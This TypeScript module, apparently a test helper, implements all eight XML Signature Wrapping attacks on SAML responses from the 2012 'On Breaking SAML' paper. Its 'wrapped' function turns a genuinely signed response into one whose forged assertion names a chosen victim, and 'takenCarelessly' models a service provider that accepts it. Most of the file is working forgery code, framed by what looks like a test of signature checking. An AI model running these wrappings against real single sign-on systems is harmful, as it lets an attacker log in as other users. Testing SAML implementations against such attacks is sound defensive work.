import { createRequire } from 'node:module'

interface XmlNode {
  readonly nodeType: number
  readonly childNodes: ArrayLike<XmlNode>
  appendChild(child: XmlNode): XmlNode
  insertBefore(child: XmlNode, before: XmlNode | null): XmlNode
  removeChild(child: XmlNode): XmlNode
  replaceChild(child: XmlNode, former: XmlNode): XmlNode
  cloneNode(isDeep: boolean): XmlNode
  getElementsByTagNameNS(namespace: string, name: string): ArrayLike<XmlElement>
}
interface XmlElement extends XmlNode {
  readonly localName: string
  readonly namespaceURI: string | null
  setAttribute(name: string, value: string): void
}
interface XmlDocument extends XmlNode {
  readonly documentElement: XmlElement
  createElementNS(namespace: string, name: string): XmlElement
  importNode(node: XmlElement, isDeep: boolean): XmlElement
}

const load = createRequire(import.meta.url)
// The types of these packages would bring all global names of browsers into the tests.
const { DOMParser, XMLSerializer } = load('@xmldom/xmldom') as {
  DOMParser: new () => { parseFromString(text: string, type: string): XmlDocument }
  XMLSerializer: new () => { serializeToString(node: XmlNode): string }
}
const { SignedXml } = load('xml-crypto') as {
  SignedXml: new (options: {
    publicCert: string
  }) => {
    loadSignature(signature: XmlElement): void
    checkSignature(xml: string): boolean
  }
}

const SIGNATURES = 'http://www.w3.org/2000/09/xmldsig#'
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol'

/** An answer with the real assertion and a forged copy, each without the other. */
interface Parts {
  readonly document: XmlDocument
  readonly response: XmlElement
  /** Signed. */
  readonly real: XmlElement
  /** A copy of the real one without its signature, with another id and another person. */
  readonly forged: XmlElement
}

/** XML signature wrapping of one kind. */
export interface Wrapping {
  readonly name: string
  /** Whether it wraps a signed response. */
  readonly ofResponse: boolean
  /** Whether the real assertion stays where servers look for it, with nothing beside it. */
  readonly leavesReal?: boolean
  apply(parts: Parts): void
}

const signatureIn = (element: XmlElement): XmlElement =>
  children(element).find(
    ({ localName, namespaceURI }) => localName === 'Signature' && namespaceURI === SIGNATURES,
  )!

const children = (element: XmlElement): XmlElement[] =>
  Array.from(element.childNodes).filter((node): node is XmlElement => node.nodeType === 1)

/** A copy without its own signature, which is moved to another place. */
function unsigned(element: XmlElement): XmlElement {
  const copy = element.cloneNode(true) as XmlElement
  copy.removeChild(signatureIn(copy))
  return copy
}

/**
 * Makes the response forged, and puts a copy of the real one into it: in the signature, or before it. The
 * signature is of the copy.
 */
function wrapResponse({ response, real, forged }: Parts, isInside: boolean): void {
  const copy = unsigned(response)
  const signature = signatureIn(response)
  response.setAttribute('ID', '_forged')
  response.replaceChild(forged, real)
  if (isInside) signature.appendChild(copy)
  else response.insertBefore(copy, signature)
}

/** The forged assertion gets the signature, and `place` puts the real one, now without it, elsewhere. */
function moveSignature(
  { response, real, forged }: Parts,
  place: (bare: XmlElement, signature: XmlElement) => void,
): void {
  const bare = unsigned(real)
  const signature = real.removeChild(signatureIn(real)) as XmlElement
  response.replaceChild(forged, real)
  forged.insertBefore(signature, children(forged)[1] ?? null)
  place(bare, signature)
}

/**
 * The eight kinds of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, USENIX Security
 * 2012), in the numbers of SAML Raider.
 */
export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: 'XSW 1: a forged response, with the real one in its signature',
    ofResponse: true,
    apply: (parts) => wrapResponse(parts, true),
  },
  {
    name: 'XSW 2: a forged response, with the real one before its signature',
    ofResponse: true,
    apply: (parts) => wrapResponse(parts, false),
  },
  {
    name: 'XSW 3: a forged assertion before the real one',
    ofResponse: false,
    apply: ({ response, real, forged }) => response.insertBefore(forged, real),
  },
  {
    name: 'XSW 4: a forged assertion around the real one',
    ofResponse: false,
    apply: ({ response, real, forged }) => {
      response.replaceChild(forged, real)
      forged.appendChild(real)
    },
  },
  {
    name: 'XSW 5: a forged assertion with the signature, and the real one at the end',
    ofResponse: false,
    apply: (parts) => moveSignature(parts, (bare) => parts.response.appendChild(bare)),
  },
  {
    name: 'XSW 6: a forged assertion with the signature, and the real one in that',
    ofResponse: false,
    apply: (parts) => moveSignature(parts, (bare, signature) => signature.appendChild(bare)),
  },
  {
    name: 'XSW 7: a forged assertion in an extension before the real one',
    ofResponse: false,
    leavesReal: true,
    apply: ({ document, response, real, forged }) => {
      const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions')
      extensions.appendChild(forged)
      response.insertBefore(extensions, real)
    },
  },
  {
    name: 'XSW 8: a forged assertion with the signature, and the real one in an object of that',
    ofResponse: false,
    apply: (parts) =>
      moveSignature(parts, (bare, signature) => {
        const object = parts.document.createElementNS(SIGNATURES, 'ds:Object')
        object.appendChild(bare)
        signature.appendChild(object)
      }),
  },
]

/** The answer wrapped: its forged assertion names `victim` in place of `person`. */
export function wrapped({ apply }: Wrapping, xml: string, person: string, victim: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const response = document.documentElement
  const real = assertionsIn(response)[0]!
  const text = new XMLSerializer().serializeToString(unsigned(real)).replaceAll(person, victim)
  const copy = new DOMParser().parseFromString(text, 'text/xml').documentElement
  const forged = document.importNode(copy, true)
  forged.setAttribute('ID', '_forged_assertion')
  apply({ document, response, real, forged })
  return new XMLSerializer().serializeToString(document)
}

const assertionsIn = (element: XmlDocument | XmlElement): XmlElement[] =>
  Array.from(element.getElementsByTagNameNS('*', 'Assertion'))

/**
 * The assertions that careless servers take from an answer: they check that some signature in it is right,
 * wherever its element stands, and then read the first assertion, or the first below the response. Empty when
 * no signature is right.
 */
export function takenCarelessly(xml: string, certificate: string): string[] {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const isRight = (signature: XmlElement): boolean => {
    const check = new SignedXml({ publicCert: certificate })
    check.loadSignature(signature)
    try {
      return check.checkSignature(xml)
    } catch {
      return false
    }
  }
  const signatures = Array.from(document.getElementsByTagNameNS(SIGNATURES, 'Signature'))
  if (!signatures.some(isRight)) return []
  const below = children(document.documentElement).filter(({ localName }) => localName === 'Assertion')
  return [assertionsIn(document)[0], below[0]].flatMap((one) =>
    one === undefined ? [] : [new XMLSerializer().serializeToString(one)],
  )
}
